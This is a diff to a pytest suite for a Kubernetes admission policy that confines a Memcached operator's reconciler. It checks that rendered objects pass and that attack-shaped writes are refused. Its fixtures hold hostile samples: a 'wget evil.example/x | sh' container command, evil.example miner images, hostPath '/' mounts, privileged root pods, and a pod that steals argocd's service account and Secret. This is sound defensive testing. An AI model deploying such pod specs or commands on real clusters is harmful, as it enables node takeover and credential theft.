@@ -10,6 +10,7 @@ are computed in order, and each validation that is false denies with its message
 from __future__ import annotations
 
 import copy
+import functools
 from typing import Any
 
 import pytest
@@ -28,7 +29,8 @@ CR = {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached",
       "metadata": {"name": "cache", "namespace": "shop", "uid": "0b7f"}, "spec": {"size": 2}}
 OWNER = {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached", "name": "cache", "uid": "0b7f",
          "controller": True, "blockOwnerDeletion": True}
-RESOURCES = {"Deployment": ("apps", "deployments"), "Service": ("", "services"), "PodDisruptionBudget": ("policy", "poddisruptionbudgets")}
+RESOURCES = {"Deployment": ("apps", "deployments"), "Service": ("", "services"), "PodDisruptionBudget": ("policy", "poddisruptionbudgets"),
+             "Event": ("", "events")}
 
 
 def policy() -> dict[str, Any]:
@@ -36,17 +38,31 @@ def policy() -> dict[str, Any]:
     return vap
 
 
-def evaluate(expression: str, activation: dict[str, Any]) -> Any:
+def _join(items: Any, separator: Any = "") -> Any:
+    """``list.join(separator)`` of the API server's CEL (cel-go's strings extension, which
+    k8s.io/apiserver/pkg/cel/environment/base.go enables); cel-python has no such function."""
+    return celpy.celtypes.StringType(str(separator).join(str(i) for i in items))
+
+
+@functools.cache
+def _program(expression: str) -> Any:
     env = celpy.Environment()
-    return env.program(env.compile(expression)).evaluate(activation)
+    return env.program(env.compile(expression), functions={"join": _join})
 
 
-def admit(operation: str, obj: dict | None, old: dict | None = None, user: str = OURS, subresource: str = "") -> str | None:
-    """None when the write is let through, else the denial's message."""
-    spec = policy()["spec"]
+def evaluate(expression: str, activation: dict[str, Any]) -> Any:
+    return _program(expression).evaluate(activation)
+
+
+def admit(operation: str, obj: dict | None, old: dict | None = None, user: str = OURS, subresource: str = "",
+          vap: dict[str, Any] | None = None) -> str | None:
+    """None when the write is let through, else the denial's message (of ``vap``, else the shipped policy)."""
+    spec = (vap or policy())["spec"]
     target = obj or old
     assert target is not None
     group, resource = RESOURCES[target["kind"]]
+    if target["kind"] == "Event" and target["apiVersion"].startswith("events.k8s.io/"):
+        group = "events.k8s.io"
     rules = spec["matchConstraints"]["resourceRules"]
     full = resource + (f"/{subresource}" if subresource else "")
     if not any(group in r["apiGroups"] and full in r["resources"] and operation in r["operations"] for r in rules):
@@ -56,11 +72,11 @@ def admit(operation: str, obj: dict | None, old: dict | None = None, user: str =
     activation: dict[str, Any] = {"request": json_to_cel(request), "object": json_to_cel(obj), "oldObject": json_to_cel(old)}
     if not all(evaluate(c["expression"], activation) for c in spec.get("matchConditions", [])):
         return None
-    variables: dict[str, Any] = {}
+    variables: dict[Any, Any] = {}
     for v in spec.get("variables", []):
-        activation["variables"] = json_to_cel(variables)
-        variables[v["name"]] = evaluate(v["expression"], activation)
-    activation["variables"] = json_to_cel(variables)
+        activation["variables"] = celpy.celtypes.MapType(variables)  # CEL values already: json_to_cel makes bools ints
+        variables[celpy.celtypes.StringType(v["name"])] = evaluate(v["expression"], activation)
+    activation["variables"] = celpy.celtypes.MapType(variables)
     for check in spec["validations"]:
         result = evaluate(check["expression"], activation)
         assert not isinstance(result, Exception), (check["expression"], result)
@@ -69,11 +85,35 @@ def admit(operation: str, obj: dict | None, old: dict | None = None, user: str =
     return None
 
 
-def rendered(kind: str = "Deployment", owned: bool = True) -> dict[str, Any]:
-    [obj] = [o for o in render(copy.deepcopy(CR)) if o["kind"] == kind]
-    if owned:
-        obj["metadata"]["ownerReferences"] = [OWNER]
-    return obj
+PODS = ("memcached-gitops writes only Deployments whose Pods are as it renders them (Pod Security restricted, no "
+        "ServiceAccount but the default, no token, volume, Secret or host access, allowed images); broken: ")
+NEW = "memcached-gitops creates only objects labelled app.kubernetes.io/managed-by=memcached-gitops and owned by a Memcached"
+KEPT = ("memcached-gitops keeps its label app.kubernetes.io/managed-by=memcached-gitops, its instance label and its "
+        "Memcached ownerReference on what it changes, and adds no other owner")
+SERVICES = ("memcached-gitops writes only ClusterIP Services (headless or not) with no externalIPs or node ports, "
+            "selecting their Memcached's Pods by its app.kubernetes.io/instance label")
+BUDGETS = ("memcached-gitops writes only PodDisruptionBudgets selecting their Memcached's Pods by its "
+           "app.kubernetes.io/instance label and letting at least one go (maxUnavailable, never 0)")
+EVENTS = "memcached-gitops only creates core/v1 Events about a Memcached, in the Memcached's namespace"
+SELECTOR = "memcached-gitops creates a Deployment only under its Memcached's name, selecting that Memcached's Pods"
+
+
+def owned(obj: dict[str, Any]) -> dict[str, Any]:
+    out = copy.deepcopy(obj)
+    out["metadata"]["ownerReferences"] = [OWNER]
+    return out
+
+
+def rendered(kind: str = "Deployment", owner: bool = True, spec: dict[str, Any] | None = None) -> dict[str, Any]:
+    cr = copy.deepcopy(CR)
+    cr["spec"].update(spec or {})
+    [obj] = [o for o in render(cr) if o["kind"] == kind]
+    return owned(obj) if owner else obj
+
+
+def pod(obj: dict[str, Any]) -> dict[str, Any]:
+    spec: dict[str, Any] = obj["spec"]["template"]["spec"]
+    return spec
 
 
 def foreign() -> dict[str, Any]:
@@ -89,47 +129,257 @@ def go_operators() -> dict[str, Any]:
     return obj
 
 
-@pytest.mark.parametrize("kind", ["Deployment", "Service", "PodDisruptionBudget"])
-def test_what_the_reconciler_renders_and_owns_is_created(kind: str) -> None:
-    assert admit("CREATE", rendered(kind)) is None
+# -- every shape of our rendering passes ---------------------------------------------------------
+
+#: The CR fields that change what is rendered (docs/reference/crd.md), alone and together.
+SHAPES: dict[str, dict[str, Any]] = {
+    "seed": {},
+    "one-pod": {"size": 1},
+    "port-9150": {"containerPort": 9150, "metrics": {"enabled": True}},
+    "resources": {"resources": {"limits": {"memory": "1Gi", "cpu": "2"}, "requests": {"memory": "512Mi", "cpu": "500m"}},
+                  "threads": 4, "maxConnections": 4096},
+    "placement": {"nodeSelector": {"disk": "ssd"}, "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "cache",
+                                                                    "effect": "NoSchedule"}],
+                  "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
+                      {"matchExpressions": [{"key": "disk", "operator": "In", "values": ["ssd"]}]}]}}},
+                  "priorityClassName": "high"},
+    "exporter": {"metrics": {"enabled": True}},
+    "pod-monitor": {"metrics": {"enabled": True, "image": "quay.io/prometheus/memcached-exporter:v0.15.2",
+                                "podMonitor": {"enabled": True, "labels": {"release": "prom"}}}},
+}
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES))
+def test_every_shape_of_our_rendering_is_created_corrected_and_deleted(shape: str) -> None:
+    cr = copy.deepcopy(CR)
+    cr["spec"].update(SHAPES[shape])
+    for obj in render(cr):
+        if obj["kind"] not in RESOURCES:
+            continue  # the PodMonitor is applied by GitOps, never by the reconciler
+        mine = owned(obj)
+        assert admit("CREATE", mine) is None, (obj["kind"], admit("CREATE", mine))
+        drifted = copy.deepcopy(mine)
+        drifted["metadata"]["labels"]["team"] = "a person's"
+        assert admit("UPDATE", mine, drifted) is None
+        assert admit("DELETE", None, mine) is None
+
+
+def test_the_reconcilers_events_pass() -> None:
+    assert admit("CREATE", event()) is None
+
+
+def test_the_go_operators_deployment_taken_over_and_its_new_companions_pass() -> None:
+    from memcached_gitops.reconciler.decisions.companions import selecting
+    from memcached_gitops.reconciler.decisions.selectors import keep_live_selector
+
+    for labels in (operator_sdk_labels(), {"app.kubernetes.io/name": "project"}):
+        theirs = go_operators()
+        theirs["metadata"]["labels"] = labels
+        theirs["spec"]["selector"] = {"matchLabels": labels}
+        taken = owned(keep_live_selector(rendered(owner=False), theirs))
+        assert admit("UPDATE", taken, theirs) is None, "taken over in place"
+        for kind in ("Service", "PodDisruptionBudget"):
+            companion = owned(selecting(rendered(kind, owner=False), theirs["spec"]["selector"]))
+            assert admit("CREATE", companion) is None, (kind, labels)
+
+
+def test_argo_cds_copy_of_our_rendering_is_adopted() -> None:
+    argo = rendered(owner=False)  # applied by Argo CD from our rendering: our label, no ownerReference
+    assert admit("UPDATE", argo, argo) is None, "--adopt's first write (a removal patch) comes before the ownerReference"
+    assert admit("UPDATE", rendered(), argo) is None, "then the apply gives it the ownerReference"
+
+
+def test_a_persons_edit_being_corrected_does_not_block_the_correction() -> None:
+    """On UPDATE a rule the object already broke (a person's edit) does not stop the write; a new one does."""
+    edited = rendered()
+    pod(edited)["hostNetwork"] = True
+    pod(edited)["containers"].append({"name": "debug", "image": "busybox:1", "securityContext": {"privileged": True}})
+    half = copy.deepcopy(edited)
+    pod(half)["containers"].pop()  # the removal patch (apply.py) first, then the apply
+    assert admit("UPDATE", half, edited) is None
+    assert admit("UPDATE", rendered(), half) is None
+    worse = copy.deepcopy(half)
+    pod(worse)["hostPID"] = True
+    assert admit("UPDATE", worse, half) == PODS + "hostPID", "hostNetwork kept, hostPID added"
+
+
+def test_a_persons_volume_image_or_account_may_stay_but_never_become_another() -> None:
+    """Item by item: what the object already had may stay; it cannot be turned into something else."""
+    edited = rendered()
+    pod(edited)["volumes"] = [{"name": "scratch", "emptyDir": {}}]
+    pod(edited)["serviceAccountName"] = "cache-reader"
+    pod(edited)["containers"][0]["image"] = "registry.example.com/memcached:1"
+    assert admit("UPDATE", edited, edited) is None, "kept as they were"
+    for change in ({"volumes": [{"name": "scratch", "hostPath": {"path": "/"}}]}, {"serviceAccountName": "argocd-application-controller"}):
+        worse = copy.deepcopy(edited)
+        pod(worse).update(change)
+        assert admit("UPDATE", worse, edited) == PODS + next(iter(change)).replace("Name", ""), change
+    worse = copy.deepcopy(edited)
+    pod(worse)["containers"][0]["image"] = "evil.example/miner:1"
+    assert admit("UPDATE", worse, edited) == PODS + "images"
+
+
+# -- rule by rule ---------------------------------------------------------------------------------
+
+def event(**changes: Any) -> dict[str, Any]:
+    body = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "cache.17a", "namespace": "shop"},
+            "involvedObject": {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached", "name": "cache", "namespace": "shop",
+                               "uid": "0b7f"}, "reason": "Created", "message": "created", "type": "Normal"}
+    for key, value in changes.items():
+        if key == "namespace":
+            body["metadata"]["namespace"] = value
+        else:
+            body["involvedObject"][key] = value
+    return body
+
+
+def _container(change: dict[str, Any]) -> Any:
+    def apply(obj: dict[str, Any]) -> None:
+        pod(obj)["containers"][0].update(copy.deepcopy(change))
+    return apply
+
+
+def _security(change: dict[str, Any]) -> Any:
+    def apply(obj: dict[str, Any]) -> None:
+        pod(obj)["containers"][0]["securityContext"].update(copy.deepcopy(change))
+    return apply
+
+
+def _pod(change: dict[str, Any]) -> Any:
+    def apply(obj: dict[str, Any]) -> None:
+        pod(obj).update(copy.deepcopy(change))
+    return apply
+
+
+def _drop(*keys: str) -> Any:
+    def apply(obj: dict[str, Any]) -> None:
+        for key in keys:
+            *path, last = key.split(".")
+            node = pod(obj)
+            for step in path:
+                node = node[int(step)] if step.isdigit() else node[step]
+            del node[last]
+    return apply
+
+
+#: (rule, how to break it): each breaks one rule of podRules, and only that one.
+POD_RULES = [
+    ("serviceAccount", _pod({"serviceAccountName": "argocd-application-controller"})),
+    ("serviceAccount", _pod({"serviceAccount": "builder"})),
+    ("token", _pod({"automountServiceAccountToken": True})),
+    ("token", _drop("automountServiceAccountToken")),
+    ("hostNetwork", _pod({"hostNetwork": True})),
+    ("hostPID", _pod({"hostPID": True})),
+    ("hostIPC", _pod({"hostIPC": True})),
+    ("volumes", _pod({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]})),
+    ("volumes", _pod({"volumes": [{"name": "s", "secret": {"secretName": "argocd-secret"}}]})),
+    ("volumes", _pod({"volumes": [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}]})),
+    ("volumes", _pod({"volumes": [{"name": "c", "csi": {"driver": "secrets-store.csi.k8s.io"}}]})),
+    ("volumes", _pod({"volumes": [{"name": "e", "emptyDir": {}}]})),
+    ("containersOnly", _pod({"initContainers": [{"name": "i", "image": "memcached:1"}]})),
+    ("node", _pod({"nodeName": "control-plane-1"})),
+    ("node", _pod({"runtimeClassName": "unconfined"})),
+    ("node", _pod({"resourceClaims": [{"name": "gpu", "resourceClaimName": "gpu"}]})),
+    ("node", _pod({"priorityClassName": "system-node-critical"})),
+    ("podLabels", lambda o: o["spec"]["template"]["metadata"]["labels"].update({"app.kubernetes.io/instance": "payments"})),
+    ("images", _container({"image": "evil.example/memcached:1"})),
+    ("images", _container({"image": "memcachedevil:1"})),
+    ("command", _container({"command": ["sh", "-c", "wget evil.example/x | sh"]})),
+    ("command", lambda o: pod(o)["containers"][1].update(args=["sh", "-c", "id"])),
+    ("command", _container({"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}})),
+    ("command", _container({"livenessProbe": {"exec": {"command": ["sh", "-c", "id"]}}})),
+    ("command", _container({"startupProbe": {"exec": {"command": ["id"]}}})),
+    ("readOnlyRoot", _security({"readOnlyRootFilesystem": False})),
+    ("privileged", _security({"privileged": True})),
+    ("capabilities", _security({"capabilities": {"add": ["SYS_ADMIN"], "drop": ["ALL"]}})),
+    ("capabilities", _security({"capabilities": {"drop": ["NET_RAW"]}})),
+    ("privilegeEscalation", _security({"allowPrivilegeEscalation": True})),
+    ("privilegeEscalation", _drop("containers.0.securityContext.allowPrivilegeEscalation")),
+    ("nonRoot", _security({"runAsNonRoot": False})),
+    ("nonRoot", _security({"runAsUser": 0})),
+    ("nonRoot", _pod({"securityContext": {"runAsUser": 0, "runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}}})),
+    ("seccomp", _security({"seccompProfile": {"type": "Unconfined"}})),
+    ("seccomp", _drop("securityContext.seccompProfile")),
+    ("securityContext", _pod({"securityContext": {"runAsUser": 1001, "runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"},
+                                                  "sysctls": [{"name": "kernel.shm_rmid_forced", "value": "0"}]}})),
+    ("securityContext", _security({"seLinuxOptions": {"type": "spc_t"}})),
+    ("securityContext", _security({"appArmorProfile": {"type": "Unconfined"}})),
+    ("securityContext", _security({"procMount": "Unmasked"})),
+    ("securityContext", _security({"windowsOptions": {"hostProcess": True}})),
+    ("hostPorts", _container({"ports": [{"containerPort": 11211, "hostPort": 11211, "name": "memcached", "protocol": "TCP"}]})),
+    ("secretEnv", _container({"env": [{"name": "K", "valueFrom": {"secretKeyRef": {"name": "argocd-secret", "key": "k"}}}]})),
+    ("secretEnv", _container({"envFrom": [{"secretRef": {"name": "argocd-secret"}}]})),
+]
+
+
+@pytest.mark.parametrize("rule,breaking", POD_RULES, ids=[f"{r}-{i}" for i, (r, _) in enumerate(POD_RULES)])
+def test_each_pod_rule_refuses_on_create_and_on_update(rule: str, breaking: Any) -> None:
+    obj = rendered(spec={"metrics": {"enabled": True}})
+    breaking(obj)
+    assert admit("CREATE", obj) == PODS + rule
+    assert admit("UPDATE", obj, rendered(spec={"metrics": {"enabled": True}})) == PODS + rule
+
+
+def test_the_exporter_sidecar_is_held_to_the_same_rules() -> None:
+    obj = rendered(spec={"metrics": {"enabled": True, "image": "evil.example/exporter:1"}})
+    assert admit("CREATE", obj) == PODS + "images"
+
+
+def test_a_digest_is_an_allowed_image_and_a_second_rule_is_named_too() -> None:
+    obj = rendered()
+    pod(obj)["containers"][0]["image"] = "memcached@sha256:" + "0" * 64
+    assert admit("CREATE", obj) is None
+    pod(obj)["hostPID"] = True
+    pod(obj)["automountServiceAccountToken"] = True
+    assert admit("CREATE", obj) in (PODS + "token, hostPID", PODS + "hostPID, token")
 
 
 def test_nothing_is_written_in_the_system_namespaces() -> None:
-    obj = rendered()
-    obj["metadata"]["namespace"] = "kube-system"
-    assert admit("CREATE", obj) == "memcached-gitops writes no object in the namespace kube-system"
+    for namespace in ("kube-system", "kube-public", "kube-node-lease"):
+        obj = rendered()
+        obj["metadata"]["namespace"] = namespace
+        assert admit("CREATE", obj) == f"memcached-gitops writes no object in the namespace {namespace}"
+        assert admit("CREATE", event(namespace=namespace)) is not None
 
 
-@pytest.mark.parametrize("case", ["foreign", "unowned", "owned-by-another-kind", "unlabelled"])
+@pytest.mark.parametrize("case", ["foreign", "unowned", "owned-by-another-kind", "unlabelled", "not-controller", "second-owner"])
 def test_a_new_object_must_be_labelled_ours_and_owned_by_a_memcached(case: str) -> None:
-    obj = {"foreign": foreign, "unowned": lambda: rendered(owned=False)}.get(case, rendered)()
+    obj = {"foreign": foreign, "unowned": lambda: rendered(owner=False)}.get(case, rendered)()
     if case == "owned-by-another-kind":
         obj["metadata"]["ownerReferences"] = [{**OWNER, "kind": "ReplicaSet", "apiVersion": "apps/v1"}]
     if case == "unlabelled":
         del obj["metadata"]["labels"]["app.kubernetes.io/managed-by"]
-    assert admit("CREATE", obj) == ("memcached-gitops creates only objects labelled app.kubernetes.io/managed-by=memcached-gitops "
-                                    "and owned by a Memcached")
+    if case == "not-controller":
+        obj["metadata"]["ownerReferences"] = [{**OWNER, "controller": False}]
+    if case == "second-owner":
+        obj["metadata"]["ownerReferences"].append({"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "1"})
+    assert admit("CREATE", obj) == NEW
 
 
-@pytest.mark.parametrize("field,value", [("automountServiceAccountToken", True), ("hostNetwork", True), ("hostPID", True),
-                                         ("hostIPC", True), ("volumes", [{"name": "root", "hostPath": {"path": "/"}}])])
-def test_a_new_deployments_pods_are_confined(field: str, value: Any) -> None:
-    obj = rendered()
-    obj["spec"]["template"]["spec"][field] = value
-    assert admit("CREATE", obj).startswith("memcached-gitops creates only Deployments whose Pods mount no ServiceAccount token")
+def test_a_new_deployment_is_named_and_selects_as_rendered() -> None:
+    renamed = rendered()
+    renamed["metadata"]["name"] = "payments"
+    assert admit("CREATE", renamed) == SELECTOR
+    wide = rendered()
+    wide["spec"]["selector"] = {"matchLabels": {"app.kubernetes.io/name": "memcached"}}
+    assert admit("CREATE", wide) == SELECTOR
 
 
-def test_changes_to_what_is_already_ours_argo_cds_copy_of_our_rendering_or_the_go_operators_pass() -> None:
-    drifted = rendered()
-    drifted["spec"]["replicas"] = 5
-    assert admit("UPDATE", rendered(), drifted) is None  # a correction
-    argo = rendered(owned=False)  # applied by Argo CD from our rendering: our label, no ownerReference
-    assert admit("UPDATE", argo, argo) is None, "--adopt's first write (a removal patch) comes before the ownerReference"
-    theirs = go_operators()
-    taken = rendered()
-    taken["spec"]["selector"] = theirs["spec"]["selector"]
-    assert admit("UPDATE", taken, theirs) is None, "the Go operator's Deployment is taken over in place"
-    assert admit("DELETE", None, rendered()) is None
+@pytest.mark.parametrize("change", ["label", "instance", "owner", "owner-swapped", "second-owner"])
+def test_an_update_keeps_the_label_the_instance_and_the_owner(change: str) -> None:
+    before = rendered()
+    after = copy.deepcopy(before)
+    if change == "label":
+        del after["metadata"]["labels"]["app.kubernetes.io/managed-by"]
+    elif change == "instance":
+        after["metadata"]["labels"]["app.kubernetes.io/instance"] = "payments"
+    elif change == "owner":
+        del after["metadata"]["ownerReferences"]
+    elif change == "owner-swapped":
+        after["metadata"]["ownerReferences"] = [{**OWNER, "uid": "another"}]
+    else:
+        after["metadata"]["ownerReferences"].append({"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "1"})
+    assert admit("UPDATE", after, before) == KEPT
 
 
 def test_a_foreign_object_cannot_be_changed_deleted_or_relabelled_into_ours() -> None:
@@ -145,11 +395,137 @@ def test_a_foreign_object_cannot_be_changed_deleted_or_relabelled_into_ours() ->
     assert admit("UPDATE", not_controller, not_controller) is not None, "a non-controller reference makes nothing ours"
 
 
+#: Each valid for the API server (a real one validates before admission: a headless Service cannot be
+#: NodePort, a nodePort needs that type), so that on a real cluster the policy is what refuses them.
+SERVICE_ESCAPES = {
+    "LoadBalancer": {"type": "LoadBalancer", "clusterIP": None},
+    "NodePort": {"type": "NodePort", "clusterIP": None},
+    "nodePort": {"type": "NodePort", "clusterIP": None,
+                 "ports": [{"name": "memcached", "port": 11211, "protocol": "TCP", "targetPort": "memcached", "nodePort": 30001}]},
+    "externalIPs": {"clusterIP": None, "externalIPs": ["203.0.113.7"]},
+    "ExternalName": {"type": "ExternalName", "externalName": "kubernetes.default.svc", "clusterIP": None},
+    "foreign-selector": {"selector": {"app": "pay"}},
+    "another-instance": {"selector": {"app.kubernetes.io/name": "memcached", "app.kubernetes.io/instance": "payments"}},
+    "no-selector": {"selector": None},
+}
+
+
+@pytest.mark.parametrize("escape", sorted(SERVICE_ESCAPES))
+def test_a_service_is_cluster_internal_and_selects_its_owners_pods(escape: str) -> None:
+    obj = rendered("Service")
+    obj["spec"].update(SERVICE_ESCAPES[escape])
+    obj["spec"] = {k: v for k, v in obj["spec"].items() if v is not None}
+    assert admit("CREATE", obj) == SERVICES
+    assert admit("UPDATE", obj, rendered("Service")) == SERVICES
+
+
+@pytest.mark.parametrize("spec", [{"maxUnavailable": 0}, {"maxUnavailable": "0%"}, {"minAvailable": "100%", "maxUnavailable": None},
+                                  {"selector": {"matchLabels": {"app": "pay"}}},
+                                  {"selector": {"matchExpressions": [{"key": "app", "operator": "Exists"}]}}])
+def test_a_budget_selects_its_owners_pods_and_lets_one_go(spec: dict[str, Any]) -> None:
+    obj = rendered("PodDisruptionBudget")
+    obj["spec"].update(spec)
+    obj["spec"] = {k: v for k, v in obj["spec"].items() if v is not None}
+    assert admit("CREATE", obj) == BUDGETS
+    assert admit("UPDATE", obj, rendered("PodDisruptionBudget")) == BUDGETS
+
+
+@pytest.mark.parametrize("changes", [{"namespace": "default"}, {"kind": "Pod"}, {"apiVersion": "v1"}, {"namespace": ""}])
+def test_an_event_is_about_a_memcached_in_its_own_namespace(changes: dict[str, Any]) -> None:
+    assert admit("CREATE", event(**changes)) == EVENTS
+
+
+def test_an_event_is_never_changed_deleted_or_written_through_events_k8s_io() -> None:
+    assert admit("UPDATE", event(), event()) == EVENTS
+    assert admit("DELETE", None, event()) == EVENTS
+    assert admit("CREATE", {**event(), "apiVersion": "events.k8s.io/v1"}) == EVENTS
+
+
 def test_scaling_through_the_scale_subresource_is_refused_and_other_users_are_not_concerned() -> None:
     # a Scale carries no labels: the reconciler never scales, so its token cannot either
-    scale = {"apiVersion": "autoscaling/v1", "kind": "Deployment", "metadata": {"name": "payments", "namespace": "shop"},
+    scale = {"apiVersion": "autoscaling/v1", "kind": "Deployment", "metadata": {"name": "cache", "namespace": "shop"},
              "spec": {"replicas": 0}}
-    assert admit("UPDATE", scale, scale, subresource="scale") is not None
+    assert admit("UPDATE", scale, scale, subresource="scale") == "memcached-gitops writes no subresource: deployments/scale"
+    assert admit("UPDATE", rendered(), rendered(), subresource="status") is not None
     assert admit("CREATE", foreign(), user="system:serviceaccount:argocd:argocd-application-controller") is None
     assert admit("CREATE", foreign(), user="system:serviceaccount:memcached-gitops:memcached-gitops-other") is None
     assert admit("CREATE", foreign(), user="system:serviceaccount:team-a:memcached-gitops") is not None, "any namespace's"
+
+
+# -- the attacks of issue 47, each as a stolen token would send it ---------------------------------
+
+def test_the_reviews_escapes_are_all_refused() -> None:
+    """Each write the security review made with the reconciler's token (issue 47), refused."""
+    confined = rendered()
+    rooted = copy.deepcopy(confined)  # kubectl patch of a confined Deployment: root on a node
+    pod(rooted).update(hostNetwork=True, hostPID=True, hostIPC=True, automountServiceAccountToken=True,
+                       volumes=[{"name": "root", "hostPath": {"path": "/"}}])
+    assert admit("UPDATE", rooted, confined) is not None
+    orphan = copy.deepcopy(confined)  # unlabelled and unowned: the garbage collector never removes it
+    del orphan["metadata"]["labels"]["app.kubernetes.io/managed-by"]
+    del orphan["metadata"]["ownerReferences"]
+    assert admit("UPDATE", orphan, confined) == KEPT
+    stealer = rendered()  # argocd's account, its token, its Secret, root and SYS_ADMIN
+    stealer["metadata"]["namespace"] = "argocd"
+    pod(stealer).update(serviceAccountName="argocd-application-controller", automountServiceAccountToken=True,
+                        volumes=[{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}},
+                                 {"name": "s", "secret": {"secretName": "argocd-secret"}}])
+    pod(stealer)["securityContext"] = {"runAsUser": 0}
+    pod(stealer)["containers"][0]["securityContext"] = {"runAsUser": 0, "capabilities": {"add": ["SYS_ADMIN"]}, "privileged": True}
+    pod(stealer)["containers"][0]["envFrom"] = [{"secretRef": {"name": "argocd-secret"}}]
+    refused = admit("CREATE", stealer)
+    assert refused is not None and refused.startswith(PODS)
+    for rule in ("serviceAccount", "token", "volumes", "privileged", "capabilities", "nonRoot", "secretEnv", "seccomp"):
+        assert rule in refused.removeprefix(PODS).split(", "), rule
+    for escape in SERVICE_ESCAPES.values():
+        service = rendered("Service")
+        service["spec"].update(escape)
+        service["spec"] = {k: v for k, v in service["spec"].items() if v is not None}
+        assert admit("CREATE", service) == SERVICES
+    blocker = rendered("PodDisruptionBudget")
+    blocker["spec"].update(maxUnavailable=0, selector={"matchLabels": {"app": "pay"}})
+    assert admit("CREATE", blocker) == BUDGETS
+    assert admit("CREATE", event(namespace="kube-system")) is not None
+
+
+def test_the_rest_of_the_writes_a_stolen_token_could_try_are_refused() -> None:
+    """Beyond the review: taking over a foreign object by any route, and the subresources."""
+    theirs = foreign()
+    assert admit("DELETE", None, theirs) is not None
+    grabbed = copy.deepcopy(theirs)
+    grabbed["metadata"]["ownerReferences"] = [OWNER]
+    assert admit("UPDATE", grabbed, theirs) is not None, "an ownerReference added to a foreign Deployment makes it no ours"
+    ours_to_foreign = rendered("Service")
+    ours_to_foreign["spec"]["selector"] = {"app": "pay", "app.kubernetes.io/instance": "cache"}
+    assert admit("UPDATE", ours_to_foreign, rendered("Service")) is None, "narrower than our Pods: selects nothing foreign"
+    status = rendered()
+    assert admit("UPDATE", status, status, subresource="status") is not None
+
+
+# -- the installer's image list -------------------------------------------------------------------
+
+def test_an_installers_image_list_set_by_the_documented_kustomize_patch_is_obeyed(tmp_path: Any) -> None:
+    """docs/security.md's patch, built by the real kustomize (kubectl kustomize), replaces the list."""
+    import shutil
+    import subprocess
+
+    from .test_kustomize import KUBECTL
+
+    shutil.copytree(REPO / "kustomize/admission-policy", tmp_path / "admission-policy")
+    (tmp_path / "installer").mkdir()
+    (tmp_path / "installer/kustomization.yaml").write_text(
+        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../admission-policy\n" + _doc_patch())
+    built = subprocess.run([KUBECTL, "kustomize", str(tmp_path / "installer")], capture_output=True, text=True, check=True).stdout
+    [vap] = [d.value for d in iter_documents(built) if d.value["kind"] == "ValidatingAdmissionPolicy"]
+    mirrored = rendered()
+    pod(mirrored)["containers"][0]["image"] = "registry.example.com/mirror/memcached:1.6.26-alpine3.19"
+    assert admit("CREATE", mirrored) == PODS + "images"
+    assert admit("CREATE", mirrored, vap=vap) is None
+    assert admit("CREATE", rendered(), vap=vap) == PODS + "images", "the list is replaced, not added to"
+
+
+def _doc_patch() -> str:
+    """The ``patches:`` block that docs/security.md shows for the image list."""
+    text = (REPO / "docs/security.md").read_text()
+    start = text.index("patches:\n", text.index("<!-- image-list-patch -->"))
+    return text[start:text.index("```", start)]
